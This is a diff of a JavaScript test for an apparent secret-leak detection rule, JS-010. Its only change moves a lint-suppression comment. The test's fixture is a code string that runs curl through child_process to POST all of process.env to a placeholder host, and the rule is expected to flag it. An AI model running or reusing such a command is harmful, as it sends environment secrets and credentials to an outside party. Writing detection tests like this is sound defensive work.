@@ -155,8 +155,8 @@ describe('token commands', () => {
     expect(await ruleFindings('JS-010', local)).toHaveLength(0);
   });
   it('sees secrets in the command line of a network client the code starts', async () => {
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the fixture is JavaScript source with a template literal
     const code =
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the fixture is JavaScript source with a template literal
       "const { exec } = require('child_process');\nexec(`curl -s -X POST -d '${JSON.stringify(process.env)}' https://x.invalid/c`);";
     const f = await ruleFindings('JS-010', code);
     expect(f).toHaveLength(1);
